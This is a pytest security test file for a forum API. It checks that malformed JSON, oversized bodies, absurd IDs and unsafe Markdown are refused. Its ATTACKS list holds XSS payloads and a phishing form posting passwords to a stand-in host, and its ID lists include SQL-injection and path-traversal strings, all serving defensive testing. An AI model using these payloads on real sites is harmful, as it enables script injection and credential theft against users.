"""Bad input: it is refused in one shape, with everything that is wrong, and changes nothing."""

import asyncio
import json
import re
import tracemalloc
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from quart import Quart

from model.settings import Settings
from tests import databases
from tests.api.conftest import LOBBY, Json, posted, refused, wrong_fields
from tests.cases import in_turn
from tests.conftest import PASSWORD, Person, World
from tests.pushed import Browser

JSON = {"Content-Type": "application/json"}
KIB = 1024

# Every route that takes JSON, with a good body: Root, an admin, may send them all.
CREDENTIAL: Json = {"id": "AbC", "response": {}}
ROUTES: dict[tuple[str, str], Json] = {
    ("PUT", "/api/channels/1/read"): {"until": 1},
    ("PUT", "/api/channels/1/notices"): {"how": "follow"},
    ("PUT", "/api/me/notices/read"): {"posts": [1]},
    ("PUT", "/api/me/notices/settings"): {"push": ["reply"], "zone": "UTC", "digest_at": "07:30"},
    ("PUT", "/api/me/notices/groups/class"): {"muted": True},
    ("POST", "/api/users"): {"uid": "dora", "name": "Dora", "password": PASSWORD, "email": "dora@example.org"},
    ("POST", "/api/session"): {"uid": "root", "password": PASSWORD},
    ("POST", "/api/session/confirm"): {"password": PASSWORD},
    ("POST", "/api/session/second"): {"ticket": "two_x", "code": "123456"},
    ("PUT", "/api/me/second"): {"code": "123456"},
    ("POST", "/api/session/passkey"): {"credential": CREDENTIAL},
    ("POST", "/api/me/passkeys"): {"credential": CREDENTIAL, "name": "Phone"},
    ("PATCH", "/api/me/passkeys/1"): {"name": "Phone"},
    ("POST", "/api/passkeys/options"): {"uid": "dora", "name": "Dora", "invitation": ""},
    ("POST", "/api/passkeys"): {"uid": "dora", "name": "Dora", "invitation": "", "credential": CREDENTIAL},
    ("POST", "/api/password/passkey/options"): {"code": "AAAAAAAA"},
    ("PUT", "/api/password/passkey"): {"code": "AAAAAAAA", "credential": CREDENTIAL},
    ("PATCH", "/api/me"): {"name": "R", "email": "r@example.org", "password": "x" * 9, "current_password": PASSWORD},
    ("DELETE", "/api/me"): {"password": PASSWORD},
    ("POST", "/api/me/export"): {"password": PASSWORD},
    ("POST", "/api/me/tokens"): {"name": "program"},
    ("POST", "/api/me/push"): Browser("https://push.example/1").subscription(),
    ("POST", "/api/providers/school"): {"invitation": "K7QD-29XM", "next": "/", "group": "home", "origin": ""},
    ("POST", "/api/groups"): {"slug": "chess", "name": "Chess", "origins": [], "reading": "public", "posting": "users"},
    ("PATCH", "/api/groups/class"): {"name": "Class 5b", "origins": [], "review": "all"},
    ("POST", "/api/groups/class/members"): {"uid": "charlie", "role": "member"},
    ("POST", "/api/groups/home/channels"): {"key": "room", "title": "Room", "url": "https://room.example"},
    ("PATCH", "/api/channels/1"): {"title": "Lobby 2", "locked": True},
    ("POST", "/api/channels/1/posts"): {"body": "Hello", "parent": 1},
    ("POST", "/api/channels/1/posts/bulk"): {"posts": [{"body": "Hello"}]},
    ("POST", "/api/posts/1/reports"): {"reason": "spam", "note": "Look."},
    ("POST", "/api/groups/class/blocks"): {"user": "bob", "why": "Insults."},
    ("PATCH", "/api/groups/class/rules"): {
        "hold_words": ["casino"],
        "slow": 10,
        "service_url": None,
        "service_key": "x",
    },
    ("POST", "/api/groups/class/rules/try"): {"body": "Hello"},
    ("PUT", "/api/groups/class/trust/alice"): {"level": "watched"},
    ("POST", "/api/blocks"): {"network": "2001:db8::/48", "why": "Spam."},
    ("POST", "/api/preview"): {"channel": 1, "body": "Hello"},
    ("PATCH", "/api/posts/1"): {"body": "Edited"},
    ("PATCH", "/api/posts/1/edit"): {"state": "removed"},
    ("POST", "/api/webhooks"): {"url": "https://hooks.example/x", "kinds": ["post.created"], "format": "slack"},
    ("POST", "/api/groups/class/webhooks"): {"url": "https://hooks.example/x", "kinds": ["post.created"]},
    ("PATCH", "/api/webhooks/1"): {"url": "https://hooks.example/x", "kinds": ["post.created"], "active": False},
    ("POST", "/api/webhooks/1/again"): {"delivery": 1},
    ("POST", "/api/live"): {"frames": [{"type": "subscribe", "channel": 1}], "wait": 1},
    ("POST", "/api/decisions"): {"decisions": [{"post": 99, "version": 1}], "state": "removed", "note": "No."},
    ("POST", "/api/decisions/undo"): {"decisions": [99]},
    ("POST", "/api/groups/class/history/alice/clearing"): {"days": 1, "reason": "spam", "note": "No."},
    ("PATCH", "/api/appeals/1"): {"state": "granted", "answer": "Yes."},
    ("PUT", "/api/me/decisions/1/appeal"): {"text": "I meant it kindly."},
    ("POST", "/api/groups/class/notes"): {"uid": "bob", "text": "Was warned.", "post": 1},
    ("PATCH", "/api/users/alice"): {"role": "user", "disabled": False},
    ("PUT", "/api/password"): {"code": "ZZZZ-ZZZZ", "password": PASSWORD},
    ("POST", "/api/invitations/look-up"): {"code": "ZZZZ-ZZZZ"},
    ("POST", "/api/me/invitations"): {"code": "ZZZZ-ZZZZ"},
    ("POST", "/api/groups/class/invitations/mails"): {"addresses": ["ada@school.example"]},
    ("POST", "/api/password/forgotten"): {"who": "nobody"},
    ("POST", "/api/groups/class/invitations"): {"role": "member", "uses": 1, "days": 1},
    ("PATCH", "/api/groups/class/claims/1"): {"state": "approved"},
    ("PATCH", "/api/imports/1"): {"state": "cancelled"},
    ("POST", "/api/groups/class/sso"): {"token": "x.y.z"},
    ("POST", "/api/groups/class/sessions"): {"origin": "https://class.example"},
    ("POST", "/api/groups/class/roster"): {"names": ["Dora"], "csv": "Dora"},
}
MANY = {"/api/channels/1/posts/bulk": 512 * KIB}  # paths whose bodies may be larger
routes = in_turn(("method", "path"), ROUTES)

Changes = Callable[..., Any]


@pytest.fixture
def settings(instance: Path) -> Settings:
    return Settings(instance=instance, rate_limits=False)


@pytest.fixture
async def sent(root: Person, nothing_changes: Changes) -> Changes:
    """`await sent(method, path, content)` is the answer to Root's request, which must leave no trace."""
    await posted(root)

    async def send(method: str, path: str, content: Any, **headers: str) -> Any:
        given = headers or JSON
        with nothing_changes():
            return await root.http.request(method, path, content=content, headers=given)

    return send


@pytest.mark.check
async def test_the_table_is_complete(anyone: Person) -> None:
    document = (await anyone.get("/openapi.json")).json()
    documented = {
        (method.upper(), path)
        for path, operations in document["paths"].items()
        for method, operation in operations.items()
        if "application/json" in operation.get("requestBody", {}).get("content", {})
    }
    known = {(method, re.sub(r"/(home|class)(?=/|$)", "/{slug}", path)) for method, path in ROUTES}
    known = {(method, re.sub(r"/1(?=/|$)", "/{id}", path)) for method, path in known}
    known = {(method, path.replace("/providers/school", "/providers/{provider}")) for method, path in known}
    known = {(method, path.replace("/alice", "/{uid}")) for method, path in known}
    documented = {(method, re.sub(r"\{\w+_id\}", "{id}", path)) for method, path in documented}
    missing = [f'("{method}", "{path}"): {{…}},' for method, path in sorted(documented - known)]
    assert not missing, f"Write into ROUTES, with an address that is there and a body that is good: {missing}"
    assert documented == known, "ROUTES has a route that is gone"


@routes
async def test_what_is_not_json_is_refused(sent: Changes, method: str, path: str) -> None:
    for content in (b"", b"{", b'{"a":', b"{'a': 1}", b'{"a": NaN}', b"{}{}", b"\x00", b"a=1&b=2", b'{"a": 1,}'):
        refused(await sent(method, path, content), 400)


@routes
async def test_what_is_not_utf_8_is_refused(sent: Changes, method: str, path: str) -> None:
    body = json.dumps(ROUTES[method, path])
    for content in (body.encode("utf-16"), body[:-1].encode() + b',"x":"\xff"}', b'{"\xed\xa0\x80": 1}'):
        refused(await sent(method, path, content), 400)


@routes
async def test_another_content_type_is_refused(sent: Changes, method: str, path: str) -> None:
    content = json.dumps(ROUTES[method, path]).encode()
    for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "", "json"):
        refused(await sent(method, path, content, **{"Content-Type": kind}), 415)


@routes
async def test_what_is_no_object_is_refused(sent: Changes, method: str, path: str) -> None:
    for content in (b"[]", b"null", b'"text"', b"1", b"true", b"[{}]"):
        assert wrong_fields(await sent(method, path, content))


@routes
async def test_all_wrong_fields_are_listed(sent: Changes, method: str, path: str) -> None:
    for wrong in ({"x": 1}, [] if path in MANY else [[1]], 10**30, -1.5):
        body = dict.fromkeys(ROUTES[method, path], wrong)
        assert wrong_fields(await sent(method, path, json.dumps(body).encode())) == set(body)


@routes
async def test_unknown_fields_are_listed(sent: Changes, method: str, path: str) -> None:
    unknown = {"extra": 1, "__proto__": {}, "": None, "ünknown": "x"}
    body = {**ROUTES[method, path], **unknown}
    assert wrong_fields(await sent(method, path, json.dumps(body).encode())) == set(unknown)


@routes
async def test_wrong_and_unknown_fields_are_listed_together(sent: Changes, method: str, path: str) -> None:
    body: Json = {name: {} for name in ROUTES[method, path]} | {"extra": 1}
    assert wrong_fields(await sent(method, path, json.dumps(body).encode())) == set(body)


@routes
async def test_a_nul_character_is_refused(sent: Changes, method: str, path: str) -> None:
    good = ROUTES[method, path]
    texts = {name: f"{value}\x00" for name, value in good.items() if isinstance(value, str)}
    if texts:
        assert wrong_fields(await sent(method, path, json.dumps({**good, **texts}).encode())) == set(texts)


@routes
async def test_a_lone_surrogate_is_refused(sent: Changes, method: str, path: str) -> None:
    good = ROUTES[method, path]
    for name, value in good.items():
        if isinstance(value, str):
            for half in ("\\ud800", "\\udfff", "\\ud800x", "\\ude00\\ud83d"):
                content = json.dumps({**good, name: "HALF"}).replace("HALF", half).encode()
                problem = refused(await sent(method, path, content), 400)
                assert "half of a character" in problem["detail"]


@routes
async def test_deep_nesting_is_refused(sent: Changes, method: str, path: str) -> None:
    name = next(iter(ROUTES[method, path]))
    for content in ("[" * 60_000, '{"x":' * 10_000, f'{{"{name}":{"[" * 500}1{"]" * 500}}}', "[" * 9_000 + "]" * 9_000):
        answer = await sent(method, path, content.encode())
        refused(answer, answer.status_code)
        assert answer.status_code in (400, 422)


async def test_100_000_brackets_are_refused(sent: Changes) -> None:
    answer = await sent("POST", LOBBY, b"[" * 100_000)
    refused(answer, answer.status_code)
    assert answer.status_code in (400, 413, 422)


@routes
async def test_too_much_is_refused(sent: Changes, method: str, path: str) -> None:
    padded = json.dumps(ROUTES[method, path]).encode().ljust(MANY.get(path, 64 * KIB) + 1)
    refused(await sent(method, path, padded), 413)
    refused(await sent(method, path, b" " * (3 * KIB * KIB)), 413)


@routes
async def test_too_much_in_chunks_is_refused(sent: Changes, method: str, path: str) -> None:
    async def chunks() -> Any:
        for _ in range(MANY.get(path, 64 * KIB) // KIB + 1):
            yield b" " * KIB

    refused(await sent(method, path, chunks()), 413)


async def test_64_kib_are_not_too_much(root: Person) -> None:
    padded = json.dumps({"body": "Hello"}).encode().ljust(64 * KIB)
    assert (await root.post(LOBBY, content=padded, headers=JSON)).status_code == 201


async def test_a_whole_number_may_have_a_point(alice: Person) -> None:
    """JSON has no integers of its own, and some programs write 1 as 1.0. Seen to fail without `decoder`: 422."""
    parent = (await posted(alice))["id"]
    for number in (f"{parent}.0", f"{parent}.000", f"{parent}e0", f"{parent * 10}E-1"):
        content = f'{{"body": "Hello", "parent": {number}}}'.encode()
        made = await alice.post(LOBBY, content=content, headers=JSON)
        assert (made.status_code, made.json()["parent"]) == (201, parent)
    for number in (f"{parent}.5", "1e18", "9007199254740993.0", "1e300"):
        content = f'{{"body": "Hello", "parent": {number}}}'.encode()
        assert wrong_fields(await alice.post(LOBBY, content=content, headers=JSON)) == {"parent"}


async def test_half_a_character_is_told_from_a_text_that_ends_early(sent: Changes) -> None:
    for content, said in (
        (b'{"body": "\\ud83d"}', "\\ud83d"),
        (b'{"body": "x\\ude00 y"}', "\\ude00"),
        (b'{"\\udead": 1}', "\\udead"),
        (b'{"body": "\\\\ud83d \\ud83d"}', "\\ud83d"),
        (b'{"body": "x', "truncated"),
        (b'{"body": "\\ud83d', "truncated"),
    ):
        assert said in refused(await sent("POST", LOBBY, content), 400)["detail"]


async def test_a_huge_number_is_refused(sent: Changes) -> None:
    for number in ("9" * 5_000, "-" + "9" * 30, "1e400", "1e-400", "-0.5", str(2**63), str(10**18)):
        answer = await sent("POST", LOBBY, f'{{"body": "Hello", "parent": {number}}}'.encode())
        refused(answer, answer.status_code)
        assert answer.status_code in (400, 422)


class Endless:
    """A client that sends a body without end, in chunks, and hears what it is answered."""

    CHUNK = b" " * 16 * KIB

    def __init__(self) -> None:
        self.sent = 0
        self.status = 0
        self.body = b""

    async def receive(self) -> Json:
        await asyncio.sleep(0)
        self.sent += len(self.CHUNK)
        return {"type": "http.request", "body": self.CHUNK, "more_body": True}

    async def send(self, message: Json) -> None:
        self.status = message.get("status", self.status)
        self.body += message.get("body", b"")

    def scope(self, path: str, token: str) -> Json:
        headers = [(b"content-type", b"application/json"), (b"authorization", f"Bearer {token}".encode())]
        return {
            "type": "http",
            "asgi": {"version": "3.0"},
            "http_version": "1.1",
            "method": "PUT" if path.endswith("avatar") else "POST",
            "scheme": "http",
            "path": path,
            "raw_path": path.encode(),
            "query_string": b"",
            "root_path": "",
            "headers": [(b"host", b"pottle.test"), *headers],
            "client": ("127.0.0.1", 1234),
            "server": ("pottle.test", 80),
        }


@pytest.mark.parametrize(
    ("path", "bound"), [(LOBBY, 64 * KIB), ("/api/users", 64 * KIB), ("/api/me/avatar", 5 * KIB * KIB)]
)
async def test_a_body_without_end_is_refused_in_little_memory(
    app: Quart, root: Person, path: str, bound: int, nothing_changes: Changes
) -> None:
    client = Endless()
    with nothing_changes():
        tracemalloc.start()
        try:
            async with asyncio.timeout(20):
                await app(client.scope(path, root.token), client.receive, client.send)  # type: ignore[arg-type]
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
    assert client.status == 413
    assert json.loads(client.body)["status"] == 413
    if not databases.POSTGRES:  # where the database is awaited, more comes meanwhile, and is dropped
        assert client.sent < bound + 2 * KIB * KIB  # a little of the rest is read, so that the client sees the answer
    assert peak < 2 * bound + KIB * KIB


IDS = ["0", "-1", str(10**30), str(2**63), "abc", "1.5", "01", "+1", "１", "1%00", "1%0A", "%2e%2e", "1;", "null", "'"]
WITH_ID = [
    ("GET", "/api/channels/{}"),
    ("PATCH", "/api/channels/{}"),
    ("DELETE", "/api/channels/{}"),
    ("GET", "/api/channels/{}/posts"),
    ("POST", "/api/channels/{}/posts"),
    ("GET", "/api/posts/{}"),
    ("PATCH", "/api/posts/{}"),
    ("DELETE", "/api/posts/{}"),
    ("PUT", "/api/posts/{}/reactions/up"),
    ("DELETE", "/api/posts/{}/reactions/up"),
    ("DELETE", "/api/me/tokens/{}"),
    ("GET", "/channels/{}"),
]


@in_turn("id_", IDS)
async def test_an_absurd_id_is_not_there(root: Person, sent: Changes, id_: str, nothing_changes: Changes) -> None:
    with nothing_changes():
        for method, path in WITH_ID:
            answer = await root.http.request(method, path.format(id_), json={"body": "x"})
            assert (path, answer.status_code) == (path, 404)
            refused(answer, 404)


NAMES = ["%00", "%ED%A0%80", "%FF", "x" * 3_000, "%F0%9F%98%80", "a%0Ab", "..;", "'%20OR%201=1--", "%C4%B0", "%25"]


@in_turn("name", NAMES)
async def test_an_absurd_name_is_not_there(root: Person, name: str, nothing_changes: Changes) -> None:
    with nothing_changes():
        for method, path in (
            ("GET", "/api/users/{}"),
            ("GET", "/api/users/{}/avatar"),
            ("GET", "/api/groups/{}"),
            ("GET", "/api/groups/{}/channels"),
            ("PATCH", "/api/groups/{}"),
            ("DELETE", "/api/groups/{}"),
            ("GET", "/api/groups/{}/members"),
            ("DELETE", "/api/groups/class/members/{}"),
        ):
            answer = await root.http.request(method, path.format(name), json={"name": "x"})
            assert (path, answer.status_code) == (path, 404)
            refused(answer, 404)


async def test_a_uid_in_another_case_is_taken(anyone: Person, nothing_changes: Changes) -> None:
    with nothing_changes():
        refused(await anyone.post("/api/users", {"uid": "aLICE", "name": "A", "password": PASSWORD}), 409)


async def test_a_reply_to_another_channels_post_is_refused(
    alice: Person, world: World, nothing_changes: Changes
) -> None:
    elsewhere = await posted(alice, channel=world.class_channel)
    with nothing_changes():
        assert wrong_fields(await alice.post(LOBBY, {"body": "Hello", "parent": elsewhere["id"]})) == {"parent"}


async def test_a_locked_channel_takes_no_posts(alice: Person, root: Person, nothing_changes: Changes) -> None:
    await root.patch("/api/channels/1", {"locked": True})
    with nothing_changes():
        refused(await alice.post(LOBBY, {"body": "Hello"}), 403)


# What a post may contain once it is rendered, and nothing else.
TEXT = "p br hr em strong s del code pre blockquote ul ol li a h1 h2 h3 h4 h5 h6"
TABLES = "table thead tbody tr th td"
TAGS = {*TEXT.split(), *TABLES.split()}
ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}, "code": {"class"}}
SCHEMES = {"http", "https", "mailto"}

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/track.png)",
    "![x](javascript:alert(1))",
    '[x](https://a.example "onmouseover=alert(1) x=")',
    "[x](https://a.example'onmouseover='alert(1))",
    '[x](https://a.example"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<style>*{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    '```x" onmouseover="alert(1)\ncode\n```',
    "```</code></pre><script>alert(1)</script>\ncode\n```",
    "`<script>alert(1)</script>`",
    "<div style='position:fixed;inset:0' id=content class=button>x</div>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<script>script>alert(1)<</script>/script>",
    "<scr\u0130pt>alert(1)</scr\u0130pt>",
    "http://a.example/?x=<script>alert(1)</script>",
    '<https://a.example/"onclick=alert(1)>',
    "|x|\n|-|\n|<img src=x onerror=alert(1)>|",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?php echo 1 ?><![CDATA[<script>alert(1)</script>]]>",
    "{{ 7 * 7 }}{% raw %}<script>alert(1)</script>",
]


class Harmless(HTMLParser):
    """Fails on anything in a piece of HTML that could do more than show text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, set())
            if name == "href":
                self.check_address(value or "")

    def check_address(self, address: str) -> None:
        bare = re.sub(r"[\x00-\x20\x7f]", "", address).lower()
        scheme = re.match(r"([a-z][a-z0-9+.-]*):", bare)  # WHATWG's URL standard
        assert scheme is None or scheme[1] in SCHEMES

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"instruction {data}")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"declaration {data}")


@in_turn("attack", ATTACKS)
async def test_markdown_is_harmless(alice: Person, anyone: Person, attack: str) -> None:
    made = await posted(alice, attack)
    assert made["body"] == attack
    Harmless(made["html"])
    edited = (await alice.patch(f"/api/posts/{made['id']}", {"body": f"> * {attack}"})).json()
    Harmless(edited["html"])
    assert edited["html"] in (await anyone.get("/")).text


async def test_a_link_gives_its_target_nothing(alice: Person) -> None:
    html = (await posted(alice, "[x](https://a.example) and https://b.example"))["html"]
    rels = re.findall(r'rel="([^"]*)"', html)
    assert len(rels) == 2
    for rel in rels:
        assert {"nofollow", "ugc", "noopener"} <= set(rel.split())


@in_turn("mark", [">", "*", "[", "_", "- ", "1. ", "`", "~~", "![", "](", "<", "&", "**a ", "\\", "|"])
async def test_deep_markdown_is_answered_quickly(alice: Person, mark: str) -> None:
    """10,000 characters of it; what is slow takes minutes where the work grows with the square."""
    async with asyncio.timeout(10):
        answer = await alice.post(LOBBY, {"body": (mark * 10_000)[:10_000]})
    if answer.status_code == 422:  # it shows nothing
        return
    Harmless(answer.json()["html"])
    assert len(answer.json()["html"]) < 200_000


async def test_a_body_that_never_comes_is_not_waited_for(app: Quart, monkeypatch: pytest.MonkeyPatch) -> None:
    """Nor one that begins and never ends. Seen to fail without BEGIN_SECONDS: the first waited for ever."""
    monkeypatch.setattr("pottle.http.inline.BEGIN_SECONDS", 0.01)
    monkeypatch.setitem(app.config, "BODY_TIMEOUT", 0.05)
    for begun in ([], [{"type": "http.request", "body": b"{", "more_body": True}]):
        arrived, sent = list(begun), []

        async def receive(arrived: list[Any] = arrived) -> Any:
            return arrived.pop() if arrived else await asyncio.Future()

        async def send(message: Any, sent: list[Any] = sent) -> None:
            sent.append(message)

        scope = {"type": "http", "method": "POST", "scheme": "http", "path": "/api/session", "query_string": b""}
        headers = [(b"host", b"pottle.test"), (b"content-type", b"application/json")]
        scope |= {"headers": headers, "http_version": "1.1", "client": ("::1", 1)}
        async with asyncio.timeout(5):
            await app.asgi_app(scope, receive, send)  # type: ignore[arg-type]
        assert sent[0]["status"] == 408
